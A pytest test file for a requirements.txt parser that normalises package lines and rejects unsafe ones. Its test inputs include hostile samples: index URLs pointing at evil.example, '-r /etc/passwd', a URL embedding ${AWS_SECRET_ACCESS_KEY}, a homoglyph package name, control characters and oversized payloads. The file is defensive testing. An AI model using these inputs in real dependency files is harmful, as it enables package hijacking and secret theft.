from __future__ import annotations

import re
import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from requirements_txt import parsing
from requirements_txt.parsing import RequirementsError, for_this_python, parse

A, B = "a" * 64, "b" * 64
SAFE = re.compile(r"[a-z0-9-]+(\[[a-z0-9,-]+\])?[0-9a-z<>=!~.,*+_-]*( --hash=sha(256|384|512):[0-9a-f]+)*")


def lines(text: str) -> list[str]:
    return [str(item) for item in for_this_python(parse(text.encode()))]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", []),
        ("# nothing\n\n   # here\n", []),
        ("pandas\n", ["pandas"]),
        ("Pandas == 2.2.3  # with a comment\r\n", ["pandas==2.2.3"]),
        ("\ufeffpandas\nnumpy", ["pandas", "numpy"]),
        ("a.b_c[X_y,z]>=1,!=1.5\n", ["a-b-c[x-y,z]!=1.5,>=1"]),
        ("pandas (>=2)\n", ["pandas>=2"]),
        ("old; python_version < '3'\nnew; python_version >= '3'\n", ["new"]),
        (f"x==1 --hash=sha256:{A} --hash sha256:{B.upper()}", [f"x==1 --hash=sha256:{A} --hash=sha256:{B}"]),
        (
            f"x==1 \\\n    --hash=sha256:{A}\\\n --hash=sha256:{B}\n    # via y\n",
            [f"x==1 --hash=sha256:{A} --hash=sha256:{B}"],
        ),
    ],
)
def test_parse_packages_are_rewritten_from_their_parts(text: str, expected: list[str]) -> None:
    assert lines(text) == expected


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        ("--index-url http://evil.example/simple", "options are not allowed"),
        ("-i http://evil.example/simple", "options are not allowed"),
        ("--extra-index-url=http://evil.example/", "options are not allowed"),
        ("--no-binary :all:", "options are not allowed"),
        ("-r /etc/passwd", "other files cannot be included"),
        ("-r/etc/passwd", "other files cannot be included"),
        ("-c constraints.txt", "other files cannot be included"),
        ("-e .", "options are not allowed"),
        ("x==1 --global-option=build", "options are not allowed"),
        ("x==1 --config-settings=a=b", "options are not allowed"),
        ("x==1 --hash=md5:" + "a" * 32, "options are not allowed"),
        ("x==1 --hash=sha512:" + "a" * 64, "wrong number of digits"),
        ("x @ http://evil.example/${AWS_SECRET_ACCESS_KEY}/x.whl", "variables"),
        ("x==${VERSION}", "variables"),
        ("x; platform_version == '${HOME}'", "variables"),
        ("x @ https://evil.example/x.whl", "URLs are not allowed"),
        ("https://evil.example/x.whl", "URLs are not allowed"),
        ("file:x.whl", "URLs are not allowed"),
        ("git+ssh:x", "URLs are not allowed"),
        ("x@y", "URLs are not allowed"),
        ("./x", "paths are not allowed"),
        ("../x.whl", "paths are not allowed"),
        ("/model/x.whl", "paths are not allowed"),
        ("~/x.whl", "paths are not allowed"),
        ("x-1.0-py3-none-any.whl", "files are not allowed"),
        ("x.tar.gz", "files are not allowed"),
        ("models/x", "does not name a package"),
        ("x===secret/../y.whl", "=== is not allowed"),
        ("x y", "does not name a package"),
        ("x==", "does not name a package"),
        ("x; nonsense == '1'", "does not name a package"),
        ("x" * 1001, "longer than 1000 characters"),
        ("p\N{CYRILLIC SMALL LETTER A}ndas", "ASCII"),
        ("x\x1b[31m==1", "control character"),
        ("x\x00==1", "control character"),
        ("x\u202e==1", "control character"),
        ("x\\", "nothing follows"),
        ("x \\\n-r /etc/passwd", "does not name a package"),
        ("x==1 \\\n  --index-url evil.example", "options are not allowed"),
    ],
)
def test_parse_more_than_a_package_is_refused_with_its_line_and_without_its_text(line: str, problem: str) -> None:
    with pytest.raises(RequirementsError) as raised:
        lines("# one\n\n" + line)
    sentence = str(raised.value)
    assert sentence.startswith("requirements.txt, line 3")
    assert problem in sentence
    assert sentence.isprintable()
    assert len(sentence) < 200
    for secret in ("evil.example", "AWS_SECRET", "passwd", "secret", "nonsense"):
        assert secret not in sentence


@pytest.mark.parametrize("data", [b"ok\nx\xff\n", "x\n".encode("utf-16"), b"x\n\x00\x00\n"])
def test_parse_bytes_that_are_no_text_are_refused(data: bytes) -> None:
    with pytest.raises(RequirementsError, match=r"line [12]: it (is not UTF-8|contains a control)"):
        parse(data)


def test_parse_hashes_for_some_packages_only_are_refused() -> None:
    with pytest.raises(RequirementsError, match=r"line 2 \(y\): other lines have a --hash"):
        lines(f"x==1 --hash=sha256:{A}\ny==1\n")


@pytest.mark.parametrize("versions", ["", ">=1", "==1.*", "==1,!=2"])
def test_parse_a_hash_without_an_exact_version_is_refused(versions: str) -> None:
    with pytest.raises(RequirementsError, match="must be exact"):
        lines(f"x{versions} --hash=sha256:{A}\n")


@pytest.mark.parametrize(
    "data",
    [
        b"x" * (parsing.MAX_BYTES + 1),
        b"\n" * (parsing.MAX_LINES + 1),
        b"x\n" * (parsing.MAX_PACKAGES + 1),
        b"x" + b" --hash" * 140_000,
        b"x==1" + b" --hash=sha256:" * 70_000,
        b"x #" + b" " * 1_000_000,
        b" " * 1_000_000 + b"x",
        b"\\\n" * 19_000,
        b"x;" + b"(" * 1_000_000,
    ],
)
def test_parse_a_huge_file_costs_no_time(data: bytes) -> None:
    begun = time.process_time()  # other programs on a busy machine do not count
    with suppress(RequirementsError):
        parse(data)
    assert time.process_time() - begun < 4


@given(st.text(st.characters(max_codepoint=300), max_size=60) | st.text("x1.=<>[],;@ \\\n-${}:/'\"#", max_size=60))
def test_parse_whatever_is_written_pip_gets_a_plain_package_or_nothing(text: str) -> None:
    with suppress(RequirementsError):
        found = lines(text)
        assert all(SAFE.fullmatch(line) for line in found)
        assert not any(line.startswith("-") for line in found)


def test_parse_the_projects_own_lock_file_is_accepted() -> None:
    found = parse(Path("requirements-server.lock").read_bytes())
    assert {"numpy", "scikit-learn"} <= {item.name for item in found}
    assert all(item.hashes for item in found)
